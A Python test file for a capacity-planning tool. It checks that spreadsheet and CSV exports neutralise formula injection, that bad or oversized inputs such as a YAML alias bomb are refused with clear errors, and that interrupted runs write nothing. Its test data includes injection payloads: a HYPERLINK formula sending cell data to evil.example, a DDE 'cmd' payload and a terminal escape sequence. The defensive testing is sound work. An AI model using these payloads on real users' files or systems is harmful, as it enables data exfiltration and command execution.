"""Hostile inputs, interrupts and exports: never a traceback, a wrong plan, a lost file or a live formula.

Each test names the kind of failure it guards against (issue 12).
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from planner.baselines import compare_with_baselines, options_for
from planner.pipeline import plan_document, run_plan
from planner.scenario import load_scenario
from reports.cells import FORMULA_LEADS, neutral_text
from scenario_files import CATALOG_COLUMNS, SITE_COLUMNS, WORKLOAD_COLUMNS, sku

ROOT = Path(__file__).resolve().parents[1]

# ------------------------------------------------------------------ formula injection

# OWASP's examples and the issue's: each would run, link or compute if a spreadsheet took it as a formula.
HOSTILE_WORKLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0")
HOSTILE_OWNED_SITE = "+SUM(1,2)"
HOSTILE_CLOUD_SITE = "-2+3"
HOSTILE_SKU = "@SUM(1)"
HOSTILE_NAMES = (*HOSTILE_WORKLOADS, HOSTILE_OWNED_SITE, HOSTILE_CLOUD_SITE, HOSTILE_SKU)

# Every module that writes a spreadsheet sheet or a CSV, and the call that exercises it below. A new writer
# (a `compare` or `sweep` export) fails `test_every_writer_is_enumerated` until it is added here.
WRITER_PATTERN = re.compile(r"\.to_csv\(|csv\.writer\(|create_sheet\(|\bWorkbook\(\)|\.to_excel\(")
ENUMERATED_WRITERS = {"reports/workbook.py", "reports/risk_sheets.py", "reports/csv_writer.py",
                      "reports/portfolio.py",  # compare and sweep workbooks: exercised in tests/test_portfolio.py
                      "reports/workbook_cells.py",  # `new_sheet`, the plan workbook's sheets (write_workbook below)
                      # `planner diff -o` and `planner calibrate --throughput-out`: tests/test_hostile_names_review.py
                      "reports/diff_workbook.py", "planner/telemetry.py"}
# Writers that put no user text in a cell: `planner generate` writes scenario tables from its own constants and the
# shipped catalog (its only text options, --start and the counts, are validated as a quarter and integers).
WRITERS_OF_NO_INPUT_TEXT = {"planner/commands/generate.py"}


def write_csv(path: Path, columns: list[str], rows: list[dict]) -> None:
    """Properly quoted CSV (the hostile names hold commas and quotes)."""
    with open(path, "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)


def hostile_scenario(folder: Path) -> Path:
    """Owned site `+SUM(1,2)` holds one node (10 kW cap), so the second workload's demand is served by renting
    at the cloud site `-2+3`, and some is left unmet in the last quarter: every table (purchases, rentals,
    placement, unmet, fleet) and the risk shortfall rows carry the hostile names."""
    folder.mkdir(parents=True, exist_ok=True)
    write_csv(folder / "catalog.csv", CATALOG_COLUMNS,
              [sku(sku=HOSTILE_SKU, rent_usd_per_gpu_hour=1.0, idle_frac=0.3, source="=1+1")])
    write_csv(folder / "sites.csv", SITE_COLUMNS,
              [dict(site=HOSTILE_OWNED_SITE, kind="owned", power_mw=0.01, pue=1.0, usd_per_kwh=0.1,
                    gco2_per_kwh=400, racks=10),
               dict(site=HOSTILE_CLOUD_SITE, kind="cloud", power_mw="", pue=1.0, usd_per_kwh="", gco2_per_kwh=0,
                    racks="")])
    first, second = HOSTILE_WORKLOADS
    write_csv(folder / "workloads.csv", WORKLOAD_COLUMNS,
              [dict(workload=first, kind="inference", params_b=8, precision="bf16", context_tokens=1000,
                    sites=HOSTILE_OWNED_SITE),
               dict(workload=second, kind="inference", params_b=8, precision="bf16", context_tokens=1000)])
    write_csv(folder / "demand.csv", ["workload", "quarter", "tokens_per_s"],
              [dict(workload=first, quarter="2027Q1", tokens_per_s=1000),
               dict(workload=first, quarter="2027Q2", tokens_per_s=1500),
               dict(workload=second, quarter="2027Q1", tokens_per_s=2000)])
    write_csv(folder / "throughput.csv", ["workload", "sku", "tokens_per_s_per_node"],
              [dict(workload=w, sku=HOSTILE_SKU, tokens_per_s_per_node=1000) for w in HOSTILE_WORKLOADS])
    config = {"name": "=HYPERLINK(\"x\")", "start": "2027Q1", "quarters": 2, "catalog": "catalog.csv",
              "sites": "sites.csv", "workloads": "workloads.csv", "demand": "demand.csv",
              "throughput": "throughput.csv", "finance": {"unmet_usd_per_unit": 30.0}}
    path = folder / "scenario.yaml"
    path.write_text(yaml.safe_dump(config, sort_keys=False))
    return path


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory) -> Path:
    """The workbook (with Risk and Sensitivity sheets) and the CSV tables of the hostile scenario's plan."""
    from models.risk import evaluate_plan
    from reports.csv_writer import write_csv_tables
    from reports.workbook import write_workbook

    root = tmp_path_factory.mktemp("hostile")
    scenario = load_scenario(hostile_scenario(root / "in"))
    run = run_plan(scenario, backend="scip", time_limit_s=30, gap=1e-9)
    # With its baselines: single-sku's detail names the hostile SKU on the Summary sheet and in baselines.csv.
    plan = plan_document(run, compare_with_baselines(run, options_for(run.built, "scip", 30, 1e-9)))
    assert plan["rentals"] and plan["unmet"], "the scenario should rent and leave demand unmet"
    assert HOSTILE_SKU in plan["baselines"][1]["detail"]
    risk = evaluate_plan(scenario, plan, samples=64, seed=0)
    write_workbook(root / "plan.xlsx", plan, scenario, risk=risk)
    write_csv_tables(root / "csv", plan, scenario)
    return root


def test_every_writer_is_enumerated():
    """Every module that writes a sheet or a CSV is one the hostile-name tests below exercise."""
    writers = {str(path.relative_to(ROOT)) for folder in ("planner", "models", "reports")
               for path in (ROOT / folder).rglob("*.py") if WRITER_PATTERN.search(path.read_text())}
    covered = ENUMERATED_WRITERS | WRITERS_OF_NO_INPUT_TEXT
    assert writers <= covered, f"not covered by the formula-injection test: {writers - covered}"
    assert writers, "the scan found no writer at all: the pattern is broken"


def test_neutral_text_follows_owasp():
    for name in HOSTILE_NAMES + ("\tx", "\rx"):
        assert neutral_text(name) == "'" + name
    for safe in ("chat", "A", "2027Q1", "", "a=b", "x-1"):
        assert neutral_text(safe) == safe
    for number in (-2, -2.5, 3, 0.0):
        assert neutral_text(number) == number  # numbers stay numbers
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}


def test_workbook_sheets_hold_hostile_names_as_text(hostile_outputs):
    """Every sheet, Risk and Sensitivity included: a cell holding input text is a string with Excel's quote
    prefix; no formula the planner writes mentions an input name."""
    book = openpyxl.load_workbook(hostile_outputs / "plan.xlsx")
    assert {"Risk", "Sensitivity"} <= set(book.sheetnames)
    seen, sheets_seen = set(), set()
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                if cell.data_type == "f":
                    assert not any(name in value for name in HOSTILE_NAMES), (ws.title, cell.coordinate, value)
                    continue
                if value.startswith(FORMULA_LEADS):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, value)
                if value in HOSTILE_NAMES:
                    seen.add(value)
                    sheets_seen.add(ws.title)
    assert seen == set(HOSTILE_NAMES)
    assert {"Placement", "Rentals", "Fleet", "Unmet", "Risk"} <= sheets_seen
    with zipfile.ZipFile(hostile_outputs / "plan.xlsx") as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/sheet"):
                formulas = re.findall(r"<f>([^<]*)</f>", archive.read(member).decode())
                assert not [f for f in formulas if re.search(r"HYPERLINK|cmd|SUM\(1", f)], member


def test_csv_fields_never_start_a_formula(hostile_outputs):
    """Every field of every CSV: text that would start a formula carries the `'` prefix; numbers stay numbers."""
    files = sorted((hostile_outputs / "csv").glob("*.csv"))
    assert len(files) >= 10
    quoted = set()
    for path in files:
        with open(path, newline="") as handle:
            for line in csv.reader(handle):
                for field in line:
                    if field.startswith(FORMULA_LEADS):
                        float(field)  # only a negative number may start with '-' (raises on text)
                    if field.startswith("'") and field[1:] in HOSTILE_NAMES:
                        quoted.add(field[1:])
    assert quoted == set(HOSTILE_NAMES)


# ------------------------------------------------------------------ bounded, safe parsing

EXAMPLE = ROOT / "data" / "examples" / "example"


@pytest.fixture
def example(tmp_path) -> Path:
    """The shipped example with the shipped catalog and sites beside it, in a folder of its own."""
    folder = tmp_path / "ex"
    folder.mkdir()
    for path in EXAMPLE.glob("*.csv"):
        (folder / path.name).write_bytes(path.read_bytes())
    for name in ("catalog.csv", "sites.csv"):
        (folder / name).write_bytes((ROOT / "data" / name).read_bytes())
    (folder / "scenario.yaml").write_text((EXAMPLE / "scenario.yaml").read_text().replace("../../", ""))
    return folder / "scenario.yaml"


def validate(path) -> tuple[int, str]:
    from click.testing import CliRunner

    from planner.cli import main

    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, result.output


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, old
    path.write_text(text.replace(old, new, 1))


TRAIN_ROW = "train-8b-base,training,8,bf16,15000,2027Q1,2027Q2,,,,"


def test_example_is_valid(example):
    assert validate(example)[0] == 0


@pytest.mark.parametrize("edit, message", [
    (lambda s: s.write_bytes("name: caf\xe9\n".encode("latin-1") + s.read_bytes()),
     "scenario.yaml, line 1: is not UTF-8 text (byte 0xe9 at offset 9, line 1); save it as UTF-8"),
    (lambda s: (s.parent / "workloads.csv").write_bytes(b"PK\x03\x04\x00\x00binary"),
     "workloads.csv: is a binary file, not UTF-8 text"),
    # The 2026 example's scenario.yaml has 20 lines (facility_options, contracts, fabric): an appended key is on line 21.
    (lambda s: s.write_text(s.read_text() + "risk: [a, b]\n"),
     "scenario.yaml, line 21, key risk: 'risk' must be a mapping of keys to values, got a list"),
    (lambda s: s.write_text(s.read_text() + "risk: lots\n"),
     "scenario.yaml, line 21, key risk: 'risk' must be a mapping of keys to values, got a string"),
    (lambda s: s.write_text(s.read_text() + "finance: {discount_rate: 0.1}\n"),
     "scenario.yaml, line 21, key finance: duplicate key 'finance' (first given on line 12)"),
    (lambda s: s.write_text(s.read_text() + "demand: [a.csv]\n".replace("demand", "throughput")),
     "scenario.yaml, line 21, key throughput: 'throughput' must be a table file name (CSV or XLSX), got a list"),
    (lambda s: replace_in(s, "start: 2027Q1", "start: 9999Q1"),
     "scenario.yaml, line 3, key quarters: the horizon (8 quarters from 9999Q1) runs past 9999Q4"),
    (lambda s: replace_in(s, "quarters: 8", "quarters: 100000000"),
     "'quarters' must be a whole number from 1 to 400 (100 years), got 100000000"),
    (lambda s: replace_in(s, "discount_rate: 0.08", "discount_rate: 1.0e300"),
     "'finance.discount_rate' must be <= 10, got 1e+300"),
    (lambda s: replace_in(s.parent / "workloads.csv", TRAIN_ROW, TRAIN_ROW + "1e-300"),
     "workloads.csv, row 2, column mfu: 1e-300 must be in [0.0001, 1]"),
    (lambda s: replace_in(s.parent / "workloads.csv", TRAIN_ROW, TRAIN_ROW.replace("15000", "1e300")),
     "workloads.csv, row 2, column tokens_b: 1e300 is above the limit of 1,000,000,000 for tokens_b"),
    (lambda s: replace_in(s.parent / "demand.csv", "2027Q1,", "2027Q1,1e300"),
     "demand.csv, row 2, column tokens_per_s: '1e300500000' is not a finite number"),
    (lambda s: replace_in(s.parent / "demand.csv", "2027Q1,500000", "2027Q1,1e300"),
     "demand.csv, row 2, column tokens_per_s: 1e300 is above the limit of 1,000,000,000,000 for tokens_per_s"),
    (lambda s: replace_in(s.parent / "catalog.csv", ",8,", ",1000000000000000000,"),
     "catalog.csv, row 2, column gpus_per_node: 1000000000000000000 is above the limit of 1,024 for gpus_per_node"),
    (lambda s: replace_in(s.parent / "fleet.csv", "\n", "\nA,h100-sxm,1e19,2026Q1\n"),
     "fleet.csv, row 2, column nodes: 1e19 is above the limit of 10,000,000 for nodes"),
    (lambda s: replace_in(s.parent / "workloads.csv", TRAIN_ROW, TRAIN_ROW[:-1] + "a, b,0.5"),
     "workloads.csv, row 2: 13 fields but the header has 12 (quote a value that holds a comma; separate a list "
     "of sites with ';')"),
    (lambda s: s.write_text(s.read_text() + "risk: {samples: 1.0e12}\n"),
     "'risk.samples' must be <= 10,000,000, got 1e+12"),
])
def test_hostile_input_is_an_input_error_naming_file_row_and_column(example, edit, message):
    edit(example)
    code, output = validate(example)
    assert code == 2 and message in output, output
    assert "Traceback" not in output


def test_yaml_1_2_numbers_bom_and_enum_case_are_accepted(example):
    """`4e7` and `1.0e12` are numbers (YAML 1.2), a UTF-8 BOM is fine, `Training`/`BF16`/`SCIP`/`Cash` match."""
    from planner.scenario import load_scenario

    replace_in(example, "budget_usd_per_quarter: 40000000", "budget_usd_per_quarter: 4e7")
    replace_in(example, "unfinished_training_usd: 1000000000", "unfinished_training_usd: 1.0e9")
    replace_in(example, "backend: scip", "backend: SCIP")
    replace_in(example, "capex_mode: depreciation", "capex_mode: Cash")
    example.write_bytes(b"\xef\xbb\xbf" + example.read_bytes())
    replace_in(example.parent / "workloads.csv", TRAIN_ROW, TRAIN_ROW.replace("training,8,bf16", "Training,8,BF16"))
    scenario = load_scenario(example)
    assert scenario.finance.budget_usd_per_quarter == 4e7 and scenario.finance.unfinished_training_usd == 1e9
    assert scenario.solver.backend == "scip" and scenario.finance.capex_mode == "cash"
    assert scenario.workloads.loc["train-8b-base", ["kind", "precision"]].tolist() == ["training", "bf16"]
    assert isinstance(scenario.horizon.quarters, int)


def test_alias_bomb_is_refused_quickly(example):
    """Nine levels of nine aliases would be 9^9 = 387 million values; it is measured, not built."""
    import time

    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
    example.write_text(example.read_text() + "\n".join(levels) + "\n")
    started = time.perf_counter()
    code, output = validate(example)
    assert code == 2 and "the YAML expands to more than 10,000 values" in output
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("kind", ["directory", "fifo", "symlink loop", "device"])
def test_paths_that_are_not_files_are_named(example, kind):
    import os

    demand = example.parent / "demand.csv"
    demand.unlink()
    if kind == "directory":
        demand.mkdir()
    elif kind == "fifo":
        os.mkfifo(demand)
    elif kind == "symlink loop":
        demand.symlink_to(demand)
    else:
        replace_in(example, "demand: demand.csv", "demand: /dev/zero")
    code, output = validate(example)
    expected = {"directory": "is a directory, not a file", "fifo": "is a FIFO (named pipe), not a file",
                "symlink loop": "is a symbolic link loop", "device": "/dev/zero: is a device, not a file"}[kind]
    assert code == 2 and expected in output, output


def test_size_row_and_xlsx_limits_are_checked_before_loading(example, monkeypatch):
    """Limits lowered so the test is quick; each names the file and the limit."""
    import openpyxl

    from planner import tables

    monkeypatch.setattr(tables, "MAX_TABLE_BYTES", 1000)
    code, output = validate(example)
    assert code == 2 and "demand.csv: file is 0.0 MiB, above the 0 MiB limit for an input file" in output
    monkeypatch.setattr(tables, "MAX_TABLE_BYTES", 10**9)
    monkeypatch.setattr(tables, "MAX_TABLE_ROWS", 10)
    code, output = validate(example)
    assert code == 2 and "demand.csv: has 91 lines, above the 10-row limit for one table" in output
    monkeypatch.setattr(tables, "MAX_TABLE_ROWS", 10**6)
    book = openpyxl.Workbook()
    book.active.title = "Demand"
    book.active.append(["workload", "quarter", "tokens_per_s"])
    book.active.append(["chat-8b", "2027Q1", "=1000*2"])  # saved by a program that does not calculate
    book.create_sheet("Notes")
    book.save(example.parent / "demand.xlsx")
    replace_in(example, "demand: demand.csv", "demand: demand.xlsx#Demnd")
    code, output = validate(example)
    assert code == 2 and "no sheet named 'Demnd'; the workbook's sheets are: 'Demand', 'Notes'" in output
    replace_in(example, "demand.xlsx#Demnd", "demand.xlsx#Demand")
    code, output = validate(example)
    assert code == 2 and ("demand.xlsx#Demand, row 2, column tokens_per_s: formula =1000*2 has no saved value"
                          in output), output
    monkeypatch.setattr(tables, "MAX_XLSX_UNCOMPRESSED_BYTES", 1000)
    code, output = validate(example)
    assert code == 2 and "workbook inflates to" in output and "MiB limit" in output


def test_control_characters_are_escaped_and_problems_capped(example):
    """A name holding an escape sequence is printed escaped; 500 bad rows print 200 and "and 300 more"."""
    replace_in(example.parent / "demand.csv", "\n", "\n" + "".join(
        f"\x1b]0;pwned\x07{i},2027Q1,1\n" for i in range(500)))
    code, output = validate(example)
    assert code == 2 and "\x1b" not in output and "\x07" not in output
    assert "unknown workload '\\x1b]0;pwned\\x070'" in output
    assert "error: 500 problem(s) in the input:" in output and "  ... and 300 more" in output
    assert len(output.splitlines()) == 1 + 200 + 1


def test_every_problem_in_one_pass(example):
    """A bad number, an unknown site reference and a bad risk key are reported together."""
    replace_in(example.parent / "workloads.csv", TRAIN_ROW, TRAIN_ROW.replace("15000", "lots")[:-1] + "Z,")
    example.write_text(example.read_text() + "risk: {samplez: 5}\n")
    code, output = validate(example)
    assert code == 2
    assert "workloads.csv, row 2, column tokens_b: 'lots' is not a number" in output
    assert "workloads.csv, row 2, column sites: unknown site 'Z'" in output
    assert "unknown key 'risk.samplez'" in output


# ------------------------------------------------------------------ interrupts, atomicity, umask

import os  # noqa: E402
import signal  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
import time  # noqa: E402

WORKED = Path(__file__).resolve().parent / "cases" / "worked-example" / "scenario.yaml"
# Runs this checkout's CLI in a fresh process; `HOOK` (Python) runs first, to interrupt at a chosen moment.
LAUNCHER = ("import os, sys; sys.path[:0] = [{root!r}]; exec(os.environ.get('HOOK', '')); "
            "from planner.cli import main; main(sys.argv[1:], prog_name='planner')")


def planner_process(args, hook: str = "", umask: int | None = None, **kwargs) -> subprocess.Popen:
    env = dict(os.environ, HOOK=hook, JAX_PLATFORMS="cpu")
    return subprocess.Popen([sys.executable, "-c", LAUNCHER.format(root=str(ROOT)), *map(str, args)], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            umask=-1 if umask is None else umask, **kwargs)


def previous_outputs(folder: Path) -> dict[str, bytes]:
    """A folder holding a previous run's good outputs (0644), which an interrupted run must leave as they are."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "plan.json").write_text('{"previous": true}\n')
    (folder / "plan.xlsx").write_bytes(b"previous workbook")
    for name in ("plan.json", "plan.xlsx"):
        os.chmod(folder / name, 0o644)
    return snapshot(folder)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()} | {
        str(p.relative_to(folder)) + "/": b"" for p in folder.rglob("*") if p.is_dir()}


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_signal_during_the_solve_aborts_and_writes_nothing(tmp_path, signum):
    """SCIP used to catch Ctrl-C and return its incumbent as 'feasible', exit 0, replacing the good outputs.
    Now: exit 128 + signal (130 for SIGINT, 143 for SIGTERM) within seconds, previous outputs untouched, no
    temporary file, no new folder. The signal is sent once the solve is under way (the hook signals the
    process from a timer started just before SCIP is called, with a 120 s limit and a 1e-9 gap it cannot meet
    in that time)."""
    out = tmp_path / "out"
    before = previous_outputs(out)
    hook = ("import threading, signal, models.solve as S; f = S._solve_ortools\n"
            "def g(*a, **k):\n"
            "    threading.Timer(1.5, os.kill, (os.getpid(), %d)).start()\n"
            "    return f(*a, **k)\n"
            "S._solve_ortools = g" % int(signum))
    process = planner_process(["plan", EXAMPLE / "scenario.yaml", "--json", out / "plan.json", "-o",
                               out / "plan.xlsx", "--csv", out / "csv", "--time-limit", "120", "--gap", "1e-9"],
                              hook=hook)
    started = time.perf_counter()
    _, stderr = process.communicate(timeout=300)
    assert process.returncode == 128 + int(signum), stderr
    assert f"interrupted ({signal.Signals(signum).name}): no output was written" in stderr
    assert "Traceback" not in stderr
    assert snapshot(out) == before  # no csv/ folder, no temporary file, previous files byte for byte
    print(f"\n{signal.Signals(signum).name}: exited {process.returncode} after {time.perf_counter() - started:.1f} s")


def test_signal_while_writing_commits_nothing(tmp_path):
    """SIGHUP after PLAN.json and the workbook are written but before the CSVs: neither is committed (no new
    PLAN.json beside the old workbook), their temporary files are gone, exit 129."""
    out = tmp_path / "out"
    before = previous_outputs(out)
    hook = ("import signal, time, reports.csv_writer as C\n"
            "def g(*a, **k):\n"
            "    os.kill(os.getpid(), signal.SIGHUP); time.sleep(30)\n"
            "C.write_csv_tables = g")
    process = planner_process(["plan", WORKED, "--json", out / "plan.json", "-o", out / "plan.xlsx", "--csv",
                               out / "csv", "--no-risk"], hook=hook)
    _, stderr = process.communicate(timeout=300)
    assert process.returncode == 129, stderr
    assert "interrupted (SIGHUP): no output was written" in stderr
    assert snapshot(out) == before


def test_outputs_are_committed_together_with_the_users_umask(tmp_path):
    """A successful run replaces every output; files get 0666 & ~umask (0640 under umask 027), a replaced 0644
    file included (mkstemp alone made every output 0600)."""
    out = tmp_path / "out"
    previous_outputs(out)
    process = planner_process(["plan", WORKED, "--json", out / "plan.json", "-o", out / "plan.xlsx", "--csv",
                               out / "csv", "--no-risk"], umask=0o027)
    stdout, stderr = process.communicate(timeout=300)
    assert process.returncode == 0, stderr
    assert "$111,108.18" in stdout
    files = [p for p in out.rglob("*") if p.is_file()]
    assert not [p for p in files if p.name.startswith(".")]  # no temporary file
    assert json_objective(out / "plan.json") == pytest.approx(111_108.18, abs=0.01)
    assert {oct(p.stat().st_mode & 0o777) for p in files} == {oct(0o640)}


def json_objective(path: Path) -> float:
    import json

    return json.loads(path.read_text())["objective_usd"]


def test_failed_command_leaves_no_folder_and_no_file(tmp_path, monkeypatch):
    """The output folders are created (checked writable) before the solve; a solve that fails afterwards
    removes them again, and the existing outputs stay: nothing written."""
    from click.testing import CliRunner

    import planner.commands.plan as plan_command
    from planner.cli import main
    from models.errors import SolverError

    def no_plan(*args, **kwargs):
        raise SolverError("no plan found in time (test)")

    monkeypatch.setattr(plan_command, "run_plan", no_plan)
    out = tmp_path / "new" / "deeper"
    result = CliRunner().invoke(main, ["plan", str(WORKED), "--json", str(out / "plan.json"), "--csv",
                                       str(out / "csv")])
    assert result.exit_code == 1 and "no plan found in time (test)" in result.output
    assert not (tmp_path / "new").exists()


def test_the_manual_bounds_table_is_the_schema():
    """Every column bound in planner/schema.py is the one the manual's "Sane bounds" table (docs/limits.md)
    documents, and the file limits are planner/tables.py's."""
    from planner import schema as S
    from planner import tables

    page = (ROOT / "docs" / "limits.md").read_text(encoding="utf-8")
    section = page[page.index("## Input files"):]  # the file limits, then the sane bounds
    for table in (S.CATALOG, S.SITES, S.FLEET, S.WORKLOADS, S.DEMAND, S.THROUGHPUT):
        for column in table.columns:
            if (table.name, column.name) in S.DATACENTER_2026_COLUMNS:  # docs/datacenter-2026.md has its bound
                continue
            if column.high is not None:
                row = next(line for line in section.splitlines()
                           if line.startswith(f"| {table.name} |") and f"`{column.name}`" in line)
                assert row.rstrip(" |").endswith(S._plain(column.high)), (row, column.high)
    assert f"in [{S.MIN_MFU:g}, 1]" in section
    assert f"| rows / columns of one table | {tables.MAX_TABLE_ROWS:,} / {tables.MAX_TABLE_COLUMNS} |" in section
    assert f"| table file size (CSV or XLSX on disk) | {tables.MAX_TABLE_BYTES // 2**20} MiB |" in section


def test_signal_during_a_cbc_solve_stops_cbc_and_removes_its_files(tmp_path):
    """CBC runs as a child process with its model and solution files in the temporary folder: SIGTERM stops it
    too (no orphan solving on for a minute) and removes those files."""
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    hook = ("import threading, signal, models.solve as S; f = S._solve_pulp\n"
            "def g(*a, **k):\n"
            "    threading.Timer(2.0, os.kill, (os.getpid(), signal.SIGTERM)).start()\n"
            "    return f(*a, **k)\n"
            "S._solve_pulp = g")
    env_tmp = dict(os.environ, TMPDIR=str(scratch))
    process = subprocess.Popen(
        [sys.executable, "-c", LAUNCHER.format(root=str(ROOT)), "plan", str(EXAMPLE / "scenario.yaml"), "--solver",
         "cbc", "--time-limit", "120", "--gap", "1e-9", "--json", str(tmp_path / "plan.json")],
        env=dict(env_tmp, HOOK=hook, JAX_PLATFORMS="cpu"), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    _, stderr = process.communicate(timeout=300)
    assert process.returncode == 143, stderr
    time.sleep(0.5)
    survivors = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if str(scratch).encode() in cmdline.read_bytes():
                survivors.append(cmdline.parent.name)
        except OSError:
            continue
    assert not survivors, f"solver processes still running: {survivors}"
    assert list(scratch.iterdir()) == [] and not (tmp_path / "plan.json").exists()


def test_validate_json_lists_every_problem_beyond_the_200_shown(tmp_path):
    """250 demand rows naming an unknown workload: stderr shows 200 and '... and 50 more'; --json has all 250."""
    import json as json_module

    from click.testing import CliRunner

    from planner.cli import main
    from scenario_files import OWNED_FREE_ENERGY, inference, sku, write_scenario

    demand = [(f"ghost-{i}", "2027Q1", 1.0) for i in range(250)]
    path = write_scenario(tmp_path, catalog=[sku()], sites=[OWNED_FREE_ENERGY], workloads=[inference()],
                          demand=demand)
    result = CliRunner().invoke(main, ["validate", str(path), "--json"])
    assert result.exit_code == 2
    first_line = result.stdout.splitlines()[0]
    verdict = json_module.loads(first_line)
    assert verdict["valid"] is False
    assert sum("ghost-" in p["message"] for p in verdict["problems"]) == 250
    assert "... and" in result.stderr
